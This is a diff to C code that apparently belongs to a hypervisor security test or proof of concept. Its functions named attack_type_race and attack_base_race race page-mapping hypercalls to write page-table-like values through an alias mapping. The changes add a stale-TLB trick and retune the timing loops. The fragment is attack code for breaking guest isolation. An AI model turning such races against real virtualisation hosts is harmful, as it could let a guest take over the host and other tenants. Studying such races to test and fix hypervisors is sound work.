@@ -45,22 +45,26 @@ static uint64_t alias[512] __attribute__((aligned(4096)));
 
 static bool skip_store(struct frame *frame)
 {
-    frame->rip += 4; /* movq $imm8, (%rax) has 7 bytes, but we use mov %rcx, 8(%rax) */
+    frame->rip += 4; /* mov %rcx, 8(%rax) */
     return true;
 }
 
-/* Maps pages[6] writable wherever it can, and stores. A store that faults is skipped. */
+/* Maps pages[6] writable when it can, and stores. A store that faults is skipped. */
 static void writer(void)
 {
+    unsigned int turn = vcpu_self();
+
     while (!stop) {
         if (update_va_mapping(alias, maddr(pages[6]) | PTE_RW, UVMF_INVLPG) == 0) {
             maps++;
         }
-        for (unsigned int i = 0; i < 50; i++) {
+        for (unsigned int i = 0; i < 3; i++, stores++) {
             asm volatile("mov %0, 8(%1)" ::"c"(0x100063UL), "a"(alias) : "memory");
-            stores++;
         }
-        update_va_mapping(alias, maddr(alias) | PTE_RW, UVMF_INVLPG);
+        update_va_mapping(alias, maddr(pages[6]) | PTE_RO, UVMF_NONE); /* the TLB keeps it */
+        for (unsigned int i = 0; i < (turn++ % 64) * 16; i++) {
+            asm volatile("mov %0, 8(%1)" ::"c"(0x100063UL), "a"(alias) : "memory");
+        }
     }
 }
 
@@ -99,6 +103,7 @@ const char *attack_type_race(void)
     }
     stop_others();
     catch_init();
+    map_at(alias, maddr(alias) | PTE_RW);
     printf("attack: %u times a table, %lu times writable for %u others, %lu stores\n", tables, maps,
            others, stores);
     return why;
@@ -160,7 +165,7 @@ const char *attack_base_race(void)
     }
     for (unsigned int i = 0; i < n; i++) {
         event_send(wake_port);
-        clock_sleep(i % 3 * 50 * US); /* sleep at once: this cpu looks for work, finds the other */
+        clock_sleep((1 + i % 3) * 30 * US); /* at once: this cpu looks for work, and may find the other */
     }
     stop_others();
     event_close(wake_port);
